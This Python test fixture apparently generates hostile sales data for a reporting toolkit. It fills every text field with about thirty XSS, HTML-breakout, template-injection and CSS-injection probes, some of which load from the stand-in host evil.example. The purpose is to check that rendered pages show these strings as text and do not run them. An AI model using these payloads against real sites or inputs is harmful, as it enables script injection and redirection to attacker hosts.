"""Sales data in which every text tries to have a page run code, ask the network, change its looks or break a figure."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from typing import Any

from small_sales import loaded

import salestoolkit as st

RAN = "document.documentElement.dataset.ran = 1"
# The 15 probes with which nbconvert was tried, and what OWASP's list of filter evasions adds.
# Texts are shown as they are, so a page does hold these words, but as words.
PROBES = (
    f"<script>{RAN}</script>",
    f'<img src=x onerror="{RAN}">',
    f'<svg onload="{RAN}"></svg>',
    f'<svg><animate onbegin="{RAN}" attributeName=x dur=1s>',
    f'<a href="javascript:{RAN}">a</a>',
    f"[link](javascript:{RAN})",
    f"![image](http://evil.example/x.png)<iframe srcdoc='<script>parent.{RAN}</script>'>",
    f'"><img src=x onerror="{RAN}">',
    f"' onmouseover='{RAN}' autofocus onfocus='{RAN}' x='",
    f"</title><script>{RAN}</script>",
    f"</style><script>{RAN}</script>",
    f"</textarea></table><script>{RAN}</script>",
    f"--><script>{RAN}</script><!--",
    f"]]><script>{RAN}</script>",
    f"<![CDATA[<script>{RAN}</script>]]>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;&#60;script&#62;{RAN}&#x3c;/script>",
    f"\u202e<script>{RAN}</script>\u202c",
    f"<scr\u200bipt>{RAN}</scr\u200bipt><ſcript>{RAN}</ſcript>",
    f"{{{{ cycler.__init__.__globals__ }}}}{{% raw %}}<script>{RAN}</script>",
    "${7*7}#{7*7}<%= 7*7 %>",
    f'<div style="width:expression({RAN});background:url(http://evil.example/x)">d</div>',
    "<style>@import 'http://evil.example/x.css';body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    f'<object data="data:text/html,<script>{RAN}</script>"></object><embed src="data:image/svg+xml,<svg/>">',
    f"<form action=//evil.example/><button formaction=javascript:{RAN}>b</button></form>",
    f"<math><mi xlink:href='javascript:{RAN}'>m</mi></math><details open ontoggle={RAN}>",
    f"```mermaid\ngraph TD; A[<img src=x onerror={RAN}>]\n```",
    r"$\href{javascript:alert(1)}{x}$ $x_{$ $\frac{ Jaya$",
    "_siti \U0001f600 \u0001\u0007\u001b[31m red",
)
PEOPLE = 6
MEASURED = ("win_rate", "monthly_sales", "lead_conversion", "funnel_leakage", "lead_response_time", "sales_to_cost")


def probe(person: int) -> str:
    """A sixth of the probes: each person's texts hold other ones, and all texts together hold all."""
    return f"P{person} " + " ".join(PROBES[person::PEOPLE])


def rows(person: int) -> dict[str, Sequence[dict[str, Any]]]:
    rep, text = f"R{person} {PROBES[person]}", probe(person)
    days = [f"2025-0{1 + i % 4}-{10 + i}T09:00" for i in range(14)]
    leads = [
        {"lead_id": f"L{person}.{i}", "created_at": day, "source": text, "channel": text, "owner_id": rep}
        | {
            "first_response_at": day.replace("T09:00", f"T1{(i * 3 + person) % 7}:{10 + i}"),
            "campaign_id": text,
            "lost_reason": text,
            "status": text,
        }
        for i, day in enumerate(days)
    ]
    deals = [
        {"deal_id": f"D{person}.{i}", "rep_id": rep, "account": f"{text} {i}", "product": text, "product_line": text}
        | {
            "stage": f"S {text}",
            "status": "won" if (i * 5 + person) % 7 < 3 else "lost",
            "lost_reason": text,
            "source": text,
        }
        | {
            "created_at": day,
            "closed_at": day.replace("T09", "T15"),
            "amount": 100 + i * (person + 3),
            "lead_id": f"L{person}.{i}",
        }
        for i, day in enumerate(days)
    ]
    reps = [{"rep_id": rep, "name": text, "team": f"T{person % 2} {text}", "region": text, "role": text, "email": text}]
    costs = [{"date_from": "2025-01-01", "date_to": "2025-04-30", "channel": text, "rep_id": rep, "amount": 50}]
    goals = [
        {"scope": scope, "scope_id": who, "kpi": "monthly_sales", "period": "month", "period_start": "2025-04-01"}
        | {"target": 900, "agreed_by": text}
        for scope, who in (("rep", rep), ("product", text), ("region", text))
    ]
    said = [{"rep_id": rep, "raised_on": "2025-03-01", "text": text, "due_on": "2025-03-15", "status": "open"}]
    said[0] |= {"kpi": text, "stage": text, "team": text, "evidence": text}
    costs[0]["category"] = "media"
    return {"leads": leads, "deals": deals, "reps": reps, "costs": costs, "goals": goals, "follow_ups": said}


def hostile_sales() -> st.SalesData:
    """Six people, of whom every text is made of probes."""
    people = [rows(person) for person in range(PEOPLE)]
    tables = {name: [row for each in people for row in each[name]] for name in people[0]}
    tables["deals"] += [{**tables["deals"][0], "deal_id": f"nul{PROBES[0]}", "product": f"a\x00{PROBES[0]}"}]
    # What is no code of a currency is rejected, and the review says so in its own words.
    for number, text in enumerate(("<s>", PROBES[0])):
        tables["deals"] += [{**tables["deals"][0], "deal_id": f"money{number}", "currency": text}]
    sales = loaded("2025-05-01T00:00", **tables)
    sales.name = probe(0)
    sales.intake = replace(sales.intake, counts=tuple(replace(each, file=probe(1)) for each in sales.intake.counts))
    return sales
